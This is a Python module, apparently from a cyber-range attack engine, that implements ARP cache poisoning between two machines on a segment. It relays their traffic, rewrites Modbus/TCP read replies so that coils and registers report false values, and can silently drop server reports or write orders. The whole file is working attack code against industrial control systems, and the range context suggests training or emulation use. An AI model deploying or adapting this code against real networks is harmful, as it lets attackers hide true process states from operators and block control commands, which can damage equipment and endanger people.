"""Standing between two machines of a segment: both are told that the other has our MAC; what comes is handed on.

What is done to the packets on the way is decided by `rules`: Modbus replies can be rewritten, reports or orders kept
back. Pure: frames in, frames out; `attack.steps.lan` owns the interface and the clock.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field, replace

from cyber_range.engine.attack.ethernet import (
    ANSWERS,
    ASKS,
    TCP,
    Segment,
    arp,
    read_arp,
    read_segment,
)

ZERO = b"\0" * 6
MODBUS = 502
READS = {1: "coil", 2: "discrete", 3: "holding", 4: "input"}
WRITES = frozenset({5, 6, 15, 16, 22, 23})
REMEMBERED = 512  # requests whose replies are still to come


@dataclass(frozen=True, slots=True)
class Lie:
    """What a register shall be said to hold: `value`, or what it holds plus `plus`."""

    table: str
    address: int
    value: int | None = None
    plus: int = 0


@dataclass(slots=True)
class Rules:
    """`lies` by server address. `keep_reports`: servers' answers are kept back; `keep_orders`: orders to them are."""

    port: int = MODBUS
    lies: Mapping[str, tuple[Lie, ...]] = field(default_factory=dict)
    keep_reports: bool = False
    keep_orders: bool = False


@dataclass(slots=True)
class Counts:
    relayed: int = 0
    rewritten: int = 0
    kept_back: int = 0
    peers: set[str] = field(default_factory=set)


class Middle:
    """`victims`: address -> MAC of the two machines; the first is told about the second and the other way round."""

    def __init__(self, own_mac: bytes, own_ip: str, victims: Mapping[str, bytes]) -> None:
        if len(victims) != 2:
            raise ValueError("standing in the middle takes two machines")
        self._mac, self._ip = own_mac, own_ip
        self._victims = dict(victims)
        self._asked: dict[tuple[str, int, str, int, int], tuple[int, int, int]] = {}
        self.rules = Rules()
        self.counts = Counts()

    # ------------------------------------------------------------ ARP

    def lure(self) -> list[bytes]:
        """Asks each victim in the other's name with our MAC, which makes an entry, and answers so, which renews it."""
        frames = []
        for (ip, mac), (other, _) in self._pairs():
            frames.append(arp(ASKS, (self._mac, other), (ZERO, ip), mac))
            frames.append(arp(ANSWERS, (self._mac, other), (mac, ip), mac))
        return frames

    def heal(self) -> list[bytes]:
        """Tells each victim the other's own MAC again."""
        frames = []
        for (ip, mac), (other, other_mac) in self._pairs():
            frames.append(arp(ASKS, (other_mac, other), (ZERO, ip), mac))
            frames.append(arp(ANSWERS, (other_mac, other), (mac, ip), mac))
        return frames

    def _pairs(self) -> Iterator[tuple[tuple[str, bytes], tuple[str, bytes]]]:
        one, two = self._victims.items()
        yield one, two
        yield two, one

    def answers_needed(self, frame: bytes) -> list[bytes]:
        """A victim that asks for the other gets our answer after the true one."""
        asked = read_arp(frame)
        if asked is None or asked.operation != ASKS or asked.mac == self._mac:
            return []
        if asked.ip in self._victims and asked.target in self._victims:
            return [arp(ANSWERS, (self._mac, asked.target), (asked.mac, asked.ip), asked.mac)]
        return []

    # ------------------------------------------------------------ packets

    def take(self, frame: bytes) -> list[bytes]:
        """What goes out for a frame that came in."""
        if frame[:6] != self._mac or frame[6:12] == self._mac:
            return []
        came_from = next((ip for ip, mac in self._victims.items() if mac == frame[6:12]), None)
        if came_from is None:
            return []
        other = next(mac for ip, mac in self._victims.items() if ip != came_from)
        found = read_segment(frame)
        if found is None:
            if read_arp(frame) is not None or frame[30:34] == ip_bytes(self._ip):
                return []
            self.counts.relayed += 1
            return [other + self._mac + frame[12:]]  # ICMP, fragments: as they are
        if found.dst == self._ip:
            return []
        self.counts.peers |= {found.src, found.dst}
        said = self._judge(found)
        if said is None:
            self.counts.kept_back += 1
            return []
        self.counts.relayed += 1
        out = replace(said, src_mac=self._mac, dst_mac=other)
        return [piece.pack() for piece in out.pieces()]

    def _judge(self, found: Segment) -> Segment | None:
        """The segment as it goes on; None when it is kept back."""
        rules = self.rules
        if found.proto != TCP or rules.port not in (found.sport, found.dport) or not found.payload:
            return found
        if found.sport == rules.port:
            if rules.keep_reports:
                return None
            return self._lie(found)
        if rules.port == MODBUS:
            if rules.keep_orders and any(pdu[0] in WRITES for _, pdu in adus(found.payload)):
                return None
            self._remember(found)
        elif rules.keep_orders:
            return None
        return found

    def _remember(self, found: Segment) -> None:
        for at, pdu in adus(found.payload):
            if pdu[0] in READS and len(pdu) >= 5:
                transaction = struct.unpack_from(">H", found.payload, at)[0]
                first, count = struct.unpack_from(">HH", pdu, 1)
                self._asked[found.src, found.sport, found.dst, found.dport, transaction] = (pdu[0], first, count)
                while len(self._asked) > REMEMBERED:
                    del self._asked[next(iter(self._asked))]

    def _lie(self, found: Segment) -> Segment:
        lies = self.rules.lies.get(found.src, ())
        if not lies:
            return found
        payload, changed = bytearray(found.payload), False
        for at, pdu in adus(found.payload):
            transaction = struct.unpack_from(">H", found.payload, at)[0]
            asked = self._asked.pop((found.dst, found.dport, found.src, found.sport, transaction), None)
            if asked is None or asked[0] != pdu[0] or len(pdu) < 2:
                continue
            for lie in lies:
                changed |= tell(lie, payload, at + 9, len(pdu) - 2, *asked)
        if not changed:
            return found
        self.counts.rewritten += 1
        return replace(found, payload=bytes(payload))


def tell(lie: Lie, payload: bytearray, start: int, size: int, function: int, first: int, count: int) -> bool:
    """Puts one lie into the values of a reply that begin at `start`; whether it was asked for."""
    offset = lie.address - first
    if READS[function] != lie.table or not 0 <= offset < count:
        return False
    if function in (1, 2):
        if offset // 8 >= size:
            return False
        mask = 1 << offset % 8
        on = bool(lie.value)
        payload[start + offset // 8] = payload[start + offset // 8] & ~mask & 0xFF | (mask if on else 0)
        return True
    if offset * 2 + 2 > size:
        return False
    now = struct.unpack_from(">H", payload, start + offset * 2)[0]
    said = lie.value if lie.value is not None else now + lie.plus
    struct.pack_into(">H", payload, start + offset * 2, said & 0xFFFF)
    return True


def adus(payload: bytes) -> Iterator[tuple[int, bytes]]:
    """(offset, PDU) of each whole Modbus message of a segment; nothing when it is something else."""
    at = 0
    while at + 8 <= len(payload):
        protocol, length = struct.unpack_from(">HH", payload, at + 2)
        if protocol or not 2 <= length <= 254 or at + 6 + length > len(payload):
            return
        yield at, payload[at + 7 : at + 6 + length]
        at += 6 + length


def ip_bytes(text: str) -> bytes:
    return bytes(int(part) for part in text.split("."))
